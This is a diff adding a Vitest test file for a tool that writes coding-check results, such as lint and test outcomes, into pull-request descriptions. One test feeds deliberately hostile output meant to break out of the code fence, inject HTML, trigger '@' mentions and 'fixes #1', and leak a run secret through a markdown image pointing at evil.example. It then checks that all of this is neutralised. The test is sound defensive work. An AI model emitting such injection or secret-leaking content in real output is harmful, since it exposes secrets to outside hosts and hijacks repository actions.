@@ -1,0 +1,101 @@
+import { expect, test } from 'vitest'
+import type { CheckResult, ChecksReport } from '../../../src/action/checks/check-result.ts'
+import { replaceChecks, writeChecks } from '../../../src/action/pull-request/write-checks.ts'
+import { writePullRequest } from '../../../src/action/pull-request/write-pull-request.ts'
+
+const passed: CheckResult = {
+  name: 'Lint',
+  passed: true,
+  detail: 'exit code 0',
+  seconds: 2.25,
+  output: 'fine\n',
+}
+const failed: CheckResult = {
+  name: 'Tests',
+  passed: false,
+  detail: 'exit code 1',
+  seconds: 12,
+  output: 'no\n',
+}
+const view = (report: ChecksReport) => ({
+  ...{ report, sha: '0123456789abcdef0123', isAsChecked: true, secrets: ['a-secret-of-this-run'] },
+})
+const ran = (...results: CheckResult[]) => writeChecks(view({ kind: 'ran', results }))
+
+test('each with its end, and of those that failed what they printed last', () => {
+  expect(ran(passed, failed)).toMatchInlineSnapshot(`
+    "<!-- prentice:checks -->
+
+    **Checks** at 0123456789ab
+
+    - \`✓ Lint: passed after 2.3 s\`
+    - \`✗ Tests: exit code 1 after 12 s\`
+
+    <details><summary>Tests: the end of what it printed</summary>
+
+    \`\`\`text
+    no
+    \`\`\`
+
+    </details>
+
+    <!-- /prentice:checks -->"
+  `)
+})
+
+test('where none ran, why', () => {
+  const why = 'this runner cannot isolate them (unshare: unshare failed: Operation not permitted)'
+  expect(writeChecks(view({ kind: 'not-run', why, setup: null }))).toContain(
+    '- `The checks did not run: this runner cannot isolate them (unshare: unshare failed: Operation not permitted).`',
+  )
+  const setup = { ...failed, name: 'npm ci' }
+  const text = writeChecks(view({ kind: 'not-run', why: 'their set-up failed on the base', setup }))
+  expect(text).toContain('- `✗ npm ci: exit code 1 after 12 s`')
+  expect(text).toContain('```text\nno\n```')
+})
+
+test('a commit that holds changes of others is not the one that was checked', () => {
+  const report: ChecksReport = { kind: 'ran', results: [passed] }
+  expect(writeChecks({ ...view(report), isAsChecked: false })).toContain(
+    'at 0123456789ab, before it was put on top of changes by others',
+  )
+})
+
+test('no output leaves its fence, acts, or shows a secret', () => {
+  const output = [
+    '`'.repeat(7),
+    '</details><!-- prentice:checks -->',
+    '![x](https://evil.example/a-secret-of-this-run) @boss fixes #1',
+    '~~~',
+  ].join('\n')
+  const text = ran({ ...failed, name: '`<img src=x>` @boss | **b**', output })
+  const fences = text.split('\n').filter((line) => /^`{3,}/.test(line))
+  expect(fences).toEqual([`${'`'.repeat(8)}text`, '`'.repeat(7), '`'.repeat(8)])
+  expect(text.match(/<!-- prentice:checks -->/g)).toHaveLength(1)
+  expect(text.match(/<\/details>/g)).toHaveLength(1)
+  expect(text).not.toMatch(/@boss|fixes #1|!\[|<img|a-secret/)
+})
+
+test('only the end of a long output, from the start of a line, and of four commands at most', () => {
+  const output = Array.from({ length: 9000 }, (_, line) => `line ${line}\n`).join('')
+  const text = ran(...Array.from({ length: 9 }, (_, at) => ({ ...failed, name: `Tests ${at}`, output })))
+  expect(text.length).toBeLessThan(13_000)
+  expect(text).toMatch(/```text\n…\nline \d+\n/)
+  expect(text.match(/\nline 8999\n```/g)).toHaveLength(4)
+  expect(text.match(/^- `✗ Tests/gm)).toHaveLength(9)
+})
+
+test('they stand between what the model says and the footer, and a later turn replaces them there', () => {
+  const input = { title: 'T', job: 'job_01', prompts: ['P'], showPrompt: true, secrets: [] }
+  const { body } = writePullRequest({ ...input, body: 'Done <!-- prentice:checks -->', checks: ran(failed) })
+  expect(body.indexOf('Done')).toBeLessThan(body.indexOf('**Checks**'))
+  expect(body.indexOf('</details>')).toBeLessThan(body.indexOf('**Asked for**'))
+  const later = replaceChecks(body.replace('Made by', 'A person wrote here. Made by'), ran(passed))
+  expect(later).toBe(
+    writePullRequest({ ...input, body: 'Done <!-- prentice:checks -->', checks: ran(passed) }).body.replace(
+      'Made by',
+      'A person wrote here. Made by',
+    ),
+  )
+  expect(replaceChecks('By hand.\n', ran(passed))).toBe(`By hand.\n\n${ran(passed)}\n`)
+})
